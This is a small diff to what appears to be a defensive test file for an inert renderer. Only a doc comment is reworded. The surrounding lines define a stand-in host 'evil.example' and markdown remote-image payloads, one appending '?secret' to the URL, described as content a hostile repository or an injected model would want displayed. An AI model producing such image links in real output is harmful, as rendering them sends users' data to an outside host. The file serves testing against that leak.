@@ -4,7 +4,7 @@ import { inertTags, inertText, inertTree, type InertNode } from '../../../src/we
 
 const host = 'evil.example';
 
-/** What a hostile repository, or a model that read one, would like the panel to show. */
+/** Content that a hostile repository, or a model that read one, would like the panel to show. */
 const payloads: Readonly<Record<string, string>> = {
 	'remote image': `![x](https://${host}/p.png?secret)`,
 	'remote image with title': `![x](https://${host}/p.png "t")`,
